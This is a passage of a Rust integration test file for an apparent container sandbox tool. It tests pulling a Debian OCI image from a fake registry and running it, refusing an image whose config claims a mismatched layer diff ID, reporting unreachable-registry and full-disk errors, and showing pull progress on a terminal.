    let tar = std::env::var("STANDIN_TEST_DEBIAN_TAR").unwrap_or_else(|_| DEBIAN_TAR.into());
    assert!(
        Path::new(&tar).is_file(),
        "{tar} is missing: `bash .ci/run` builds it (debootstrap --variant=minbase bookworm)"
    );
    let net = FakeInternet::with_tls(&[], &[], &[8443]);
    let reg = Registry::start(&net);
    let work = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let copy = work.path().join("debian.tar");
    std::fs::copy(&tar, &copy).unwrap();
    let layout = one_layer_layout(
        work.path(),
        "debian-oci",
        "bookworm",
        &copy,
        serde_json::json!({
            "Env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"],
            "Cmd": ["bash"],
        }),
    );
    // Pushed as zstd: the registry serves what skopeo compressed, the pull decompresses it.
    reg.push_with(
        &net,
        &layout,
        "bookworm",
        "debian:bookworm",
        &["--dest-compress", "--dest-compress-format", "zstd"],
    );
    pull_ok(&net, &reg, home.path(), "debian:bookworm");
    // Debian's own tools: bash, dpkg's database, apt. The minbase root has no CA bundle:
    // Debian's path is created holding the sandbox CA (there is one when a secret is given).
    let script = r#"set -e; . /etc/os-release; echo "$ID $VERSION_CODENAME"; id -un;
        dpkg-query -W -f '${Package} ${Status}\n' bash apt;
        cmp /etc/ssl/certs/ca-certificates.crt /etc/standin/ca.pem; echo ca-trusted;
        echo written > /tmp/x && cat /tmp/x; apt-get --version | head -n 1 | cut -d ' ' -f 1"#;
    let o = run(Command::new("ip")
        .args(["netns", "exec", &net.client, support::standin_bin(), "run"])
        .args(["--image", &image("debian:bookworm"), "--pull", "never"])
        .args(["--secret", "OPENAI_API_KEY@api.openai.com"])
        .args(["--", "bash", "-c", script])
        .env("STANDIN_HOME", home.path())
        .env("OPENAI_API_KEY", "sk-debian-test"));
    assert_eq!(
        stdout(&o),
        "debian bookworm\nroot\napt install ok installed\nbash install ok installed\n\
         ca-trusted\nwritten\napt\n",
        "{}",
        report(&o, &net)
    );
    // The image's Cmd runs when no command is given.
    let o = Command::new("ip")
        .args(["netns", "exec", &net.client, support::standin_bin(), "run"])
        .args(["--no-network", "--image", &image("debian:bookworm")])
        .args(["--pull", "never"])
        .env("STANDIN_HOME", home.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin
                .take()
                .unwrap()
                .write_all(b"echo $BASH_VERSION | cut -d. -f1\n")?;
            c.wait_with_output()
        })
        .unwrap();
    assert_eq!(stdout(&o), "5\n", "{}", report(&o, &net));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn a_lying_diff_id_an_unreachable_registry_and_a_full_disk_say_what_to_do() {
    let (net, reg, work, home, _layout) = setup();
    let ca = net.ca_file().display().to_string();
    let h = home.path();
    // A config whose diff ID is not its layer's: stored under that ID, the layer would stand
    // in for another image's. Refused, nothing published.
    let tar = work.path().join("honest.tar");
    std::fs::write(&tar, raw_tar(&[("hello", b'0', "", b"hi")])).unwrap();
    let lie = format!("sha256:{}", sha256_hex(b"another layer"));
    let layout = one_layer_layout(work.path(), "liar-oci", "liar", &tar, serde_json::json!({}));
    set_diff_id(&layout, &lie);
    reg.push(&net, &layout, "liar", "liar:1");
    let o = standin(
        &net,
        &reg,
        h,
        &["pull", "--registry-ca", &ca, &image("liar:1")],
    );
    assert!(!o.status.success(), "{}", report(&o, &net));
    assert!(
        stderr(&o).contains("does not match its digest"),
        "{}",
        stderr(&o)
    );
    assert!(layer_dirs(h).is_empty(), "{:?}", layer_dirs(h));
    // Nothing listens on this port of the registry's host.
    let o = standin(
        &net,
        &reg,
        h,
        &["pull", "--registry-ca", &ca, "registry.test:5999/bb:1"],
    );
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("cannot reach the registry"),
        "{}",
        stderr(&o)
    );
    // A state directory on a 64 KiB tmpfs (mounted in the private mount namespace `ip netns
    // exec` gives the command, so it goes with it).
    let full = work.path().join("full");
    std::fs::create_dir(&full).unwrap();
    let o = run(Command::new("ip")
        .args(["netns", "exec", &net.client, "sh", "-c"])
        .arg(r#"mount -t tmpfs -o size=64k tmpfs "$1" && exec "$2" pull --registry-ca "$3" "$4""#)
        .args([
            "sh",
            full.to_str().unwrap(),
            support::standin_bin(),
            &ca,
            &image("bb:1"),
        ])
        .env("STANDIN_HOME", &full)
        .env("REGISTRY_AUTH_FILE", reg.auth_file()));
    assert!(!o.status.success());
    assert!(stderr(&o).contains("no space left under"), "{}", stderr(&o));
}

/// Rewrite the image at `layout`'s only tag so that its config claims `diff_id` for its layer.
fn set_diff_id(layout: &Path, diff_id: &str) {
    use serde_json::{Value, json};
    let read = |digest: &str| read_json_blob(layout, digest);
    let put = |v: &Value| put_blob(layout, &serde_json::to_vec(v).unwrap());
    let index_path = layout.join("index.json");
    let mut index: Value = serde_json::from_slice(&std::fs::read(&index_path).unwrap()).unwrap();
    let mut manifest = read(index["manifests"][0]["digest"].as_str().unwrap());
    let mut config = read(manifest["config"]["digest"].as_str().unwrap());
    config["rootfs"]["diff_ids"] = json!([diff_id]);
    let (digest, size) = put(&config);
    manifest["config"]["digest"] = json!(digest);
    manifest["config"]["size"] = json!(size);
    let (digest, size) = put(&manifest);
    index["manifests"][0]["digest"] = json!(digest);
    index["manifests"][0]["size"] = json!(size);
    std::fs::write(&index_path, serde_json::to_vec(&index).unwrap()).unwrap();
}

/// A JSON blob of the OCI layout at `layout`, by digest.
fn read_json_blob(layout: &Path, digest: &str) -> serde_json::Value {
    let hex = digest.strip_prefix("sha256:").unwrap();
    let bytes = std::fs::read(layout.join("blobs/sha256").join(hex)).unwrap();
    serde_json::from_slice(&bytes).unwrap()
}

/// Store `bytes` as a blob of the OCI layout at `layout`; returns its digest and size.
fn put_blob(layout: &Path, bytes: &[u8]) -> (String, usize) {
    let hex = sha256_hex(bytes);
    std::fs::write(layout.join("blobs/sha256").join(&hex), bytes).unwrap();
    (format!("sha256:{hex}"), bytes.len())
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn pull_progress_shows_on_a_terminal_and_nothing_otherwise() {
    let (net, reg, _work, home, _layout) = setup();
    let ca = net.ca_file().display().to_string();
    // stderr a pipe: nothing but errors, and there are none.
    let o = pull_ok(&net, &reg, home.path(), "bb:1");
    assert_eq!(stderr(&o), "");
    // stderr a terminal (`script` gives the command a pty): layers and bytes, in place.
    let fresh = tempfile::tempdir().unwrap();
    let cmd = format!(
        "{} pull --registry-ca {ca} {}",
        support::standin_bin(),
        image("bb:1")
    );
    let o = run(Command::new("ip")
        .args([
            "netns",
            "exec",
            &net.client,
            "script",
            "-qec",
            &cmd,
            "/dev/null",
        ])
        .env("STANDIN_HOME", fresh.path())
        .env("REGISTRY_AUTH_FILE", reg.auth_file()));
    assert!(o.status.success(), "{}", report(&o, &net));
    let shown = stdout(&o);
    assert!(
        shown.contains(&format!("pulling {}: 1/1 layers", image("bb:1"))),
        "{shown:?}"
    );
    assert!(shown.contains("\r\x1b[K"), "redrawn in place: {shown:?}");
}
